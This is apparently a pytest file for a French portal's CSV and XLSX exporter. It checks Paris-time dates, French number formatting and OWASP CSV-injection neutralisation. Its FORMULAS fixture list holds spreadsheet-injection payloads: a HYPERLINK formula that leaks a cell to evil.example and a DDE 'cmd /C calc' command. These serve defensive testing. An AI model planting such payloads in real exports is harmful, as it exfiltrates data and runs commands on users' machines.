"""Cells of the CSV and XLSX exports: instants stored in UTC are shown in Paris time."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl

from portal.common import exports


def test_csv_cells_show_instants_in_paris_time():
    assert exports._cell(datetime(2027, 1, 15, 8, 30, tzinfo=UTC)) == "15/01/2027 09:30"  # CET
    assert exports._cell(datetime(2027, 7, 15, 8, 30, tzinfo=UTC)) == "15/07/2027 10:30"  # CEST
    assert exports._cell(date(2027, 7, 15)) == "15/07/2027"
    assert exports._cell(True) == "oui" and exports._cell(None) == ""


def test_xlsx_keeps_the_time_of_paris_and_numbers_as_numbers():
    data = b"".join(
        exports.xlsx_chunks(
            ["Quand", "Montant"], [(datetime(2027, 7, 15, 8, 30, tzinfo=UTC), Decimal("12.50"))], sheet="Test"
        )
    )
    rows = list(openpyxl.load_workbook(io.BytesIO(data), read_only=True).active.iter_rows(values_only=True))
    assert rows[1] == (datetime(2027, 7, 15, 10, 30), 12.5)


OOXML_ESCAPE = re.compile(r"_x([0-9A-F]{4})_")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "\tTabulée",
    "\rRetour",
]


def read_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def test_csv_text_cells_that_a_spreadsheet_would_run_are_neutralised():
    """OWASP, CSV injection: a cell starting with = + - @ tab or carriage return gets a leading apostrophe."""
    for text in FORMULAS:
        assert exports._cell(text) == "'" + text
    for text in ("Agen", "L'Isle", "47001", "a=b", " =1", "Saint-Pierre", "2A004"):
        assert exports._cell(text) == text

    class Label:  # a lazy translation or any object: written as its text, checked as text
        def __str__(self):
            return "=1+1"

    assert exports._cell(Label()) == "'=1+1"


def test_csv_numbers_stay_numbers_in_french():
    assert exports._cell(Decimal("-12.50")) == "-12,50"
    assert exports._cell(Decimal("150.00")) == "150,00" and exports._cell(Decimal("7.0")) == "7,0"
    assert exports._cell(Decimal("1E+3")) == "1000"  # never the E notation
    assert exports._cell(-3) == -3 and exports._cell(-1.5) == "-1,5" and exports._cell(1e-05) == "0,00001"
    assert exports._cell(Decimal("-12.50"), decimal_separator=".") == "-12.50"


def test_csv_file_neutralises_every_text_cell_and_keeps_numbers():
    rows = [(text, Decimal("-12.50"), -3, date(2027, 7, 15)) for text in FORMULAS]
    parsed = read_csv(b"".join(exports.csv_chunks(["Nom", "Montant", "Nombre", "Date"], rows)))
    assert parsed[0] == ["Nom", "Montant", "Nombre", "Date"]
    assert [row[0] for row in parsed[1:]] == ["'" + text for text in FORMULAS]
    assert {tuple(row[1:]) for row in parsed[1:]} == {("-12,50", "-3", "15/07/2027")}


def test_xlsx_writes_formula_like_text_as_text():
    data = b"".join(exports.xlsx_chunks(["Nom", "Montant"], [(text, Decimal("-12.50")) for text in FORMULAS]))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere in the sheet
    cells = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))
    assert {name.data_type for name, _amount in cells} == {"s"}  # strings, not formulas
    # The text itself, with no apostrophe added (OOXML writes a carriage return as _x000D_, Excel reads it back).
    assert [OOXML_ESCAPE.sub(lambda m: chr(int(m[1], 16)), name.value) for name, _amount in cells] == FORMULAS
    assert {amount.value for _name, amount in cells} == {-12.5}


def test_every_csv_file_is_written_by_the_shared_exporter():
    """A CSV writer of its own would skip the neutralisation of formulas: only portal/common/exports.py has one."""
    portal = Path(exports.__file__).resolve().parents[1]
    writers = {
        str(path.relative_to(portal))
        for path in portal.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b|from csv import [^\n]*(writer|DictWriter)", path.read_text("utf-8"))
    }
    assert writers == {"common/exports.py"}
